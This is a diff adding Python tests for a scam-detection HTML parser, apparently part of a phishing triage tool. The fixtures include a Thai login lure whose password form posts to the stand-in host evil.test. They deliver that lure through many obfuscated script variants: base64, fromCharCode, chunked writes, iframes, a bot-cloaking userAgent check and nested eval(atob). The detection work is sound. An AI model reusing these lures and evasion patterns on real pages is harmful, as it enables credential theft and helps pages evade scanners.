@@ -1,0 +1,75 @@
+"""What scripts write of what stands in them is read as part of the page, and what is not known is not taken for nothing."""
+
+import json
+import time
+from base64 import b64encode
+from urllib.parse import quote
+
+from scamtriage.parse.html.page import read_page
+from scamtriage.parse.html.written import find_written
+from scamtriage.records.facts import PageFacts
+
+TEXT = "<p>We meet on Saturday in the park.</p>" * 20
+LURE = '<h1>เข้าสู่ระบบ</h1><form action="https://evil.test/p"><input type=password name=p></form><p>LINE ID: @helper99x</p>'
+TOLD = json.dumps(LURE)
+ENCODED = b64encode(LURE.encode()).decode()
+STEPS = "".join(f"h+={json.dumps(LURE[at : at + 30])};" for at in range(0, len(LURE), 30))
+AGAIN = b64encode(f"document.write({TOLD})".encode()).decode()
+NESTED = json.dumps(f'<script>eval(atob("{AGAIN}"))</script>').replace("</", "<\\/")
+WRITES = (
+    f'document.write(unescape("{quote(LURE)}"))',
+    f'window.document.write(window.atob("{ENCODED}"))',
+    f'document["write"](decodeURIComponent(escape(atob("{ENCODED}"))))',
+    f"document.write(String.fromCharCode({','.join(str(ord(letter)) for letter in LURE)}))",
+    f'var h="";{STEPS}var d=document;d.write(h);d.close()',
+    f'document.getElementById("r").innerHTML = {TOLD}',
+    f"document.body.innerHTML = `<b>${{user.name}}</b>{LURE}`",
+    f'document.write("<b>" + navigator.platform + {TOLD})',
+    f'document.body.insertAdjacentHTML("beforeend", {TOLD})',
+    f'$(function () {{ $("#r").empty().append({TOLD}) }})',
+    f'var f = document.createElement("iframe"); f.srcdoc = {TOLD}; document.body.append(f)',
+    f'var f = document.createElement("iframe"); f.src = "data:text/html;base64,{ENCODED}"',
+    f'if (!/bot/.test(navigator.userAgent)) document.write(atob("{ENCODED}"))',
+    f'var a = 1;{"a = a + 1;" * 3_000}document.write(atob("{ENCODED}"))',
+    f"document.write({NESTED})",
+)  # fmt: skip
+
+
+def read(script: str, text: str = TEXT) -> PageFacts:
+    body = f"<html><body>{text}<div id=r></div><script>{script}</script>"
+    return read_page(body=body.encode(), content_type="text/html; charset=utf-8", url="https://a.test/", host="a.test", suffix="test")[0]
+
+
+def test_what_scripts_write_of_constants_is_part_of_the_page() -> None:
+    for script in WRITES:
+        facts = read(script)
+        assert facts.asks == ("password",) and "เข้าสู่ระบบ" in facts.text, script
+        assert ("line", "@helper99x") in {(contact.kind, contact.value) for contact in facts.contacts}, script
+
+
+def test_a_message_that_waits_in_a_function_is_not_shown() -> None:
+    facts = read(f"function expired() {{ r.innerHTML = {TOLD} }} r.onclick = expired; if (old) {{ r.innerHTML = {TOLD} }}")
+    assert (facts.asks, facts.complete) == ((), True) and "เข้าสู่ระบบ" not in facts.text
+
+
+def test_where_hardly_anything_is_shown_what_is_written_of_the_unknown_is_unknown() -> None:
+    for script in ("document.write(unescape(window.name))", 'document.body.innerHTML = "<b>" + decode(x)'):
+        facts = read(script, "<p>Please wait for a moment, dear visitor</p>")
+        assert facts.incomplete_because == "what its scripts write is not known before they run" and not facts.complete
+        assert read(script).complete
+    assert read("document.write(new Date().getFullYear())", "<p>Garden club of the town, in the park</p>").complete
+
+
+def test_a_page_of_the_site_that_fills_this_one_in_a_frame_is_told() -> None:
+    for frame in ("<iframe style='width:100%;height:2000px' src=/real>", "<iframe width=100% height=100% src=//www.a.test/real>"):
+        facts, caps = read_page(body=(TEXT + frame).encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
+        assert ("frames of the site 0", "1") in {(cap.cap, cap.seen) for cap in caps} and not facts.complete
+    assert read("", f"{TEXT}<iframe src=/real height=200></iframe><iframe width=100% height=900 src=//maps.test/></iframe>").complete
+
+
+def test_a_script_that_makes_much_of_little_costs_little() -> None:
+    doubling = "var a0='%3C" + "x" * 400 + "';" + "".join(f"var a{n + 1}=a{n}+a{n};" for n in range(10))
+    script = doubling + "document.write(unescape(a10));" * 500 + "document.write(atob('PGI+'));" * 500 + "document.write(a10);" * 500
+    began = time.process_time()
+    written = find_written([script], bare=True)
+    assert time.process_time() - began < 1 and len(written.markup) < 2_000_000
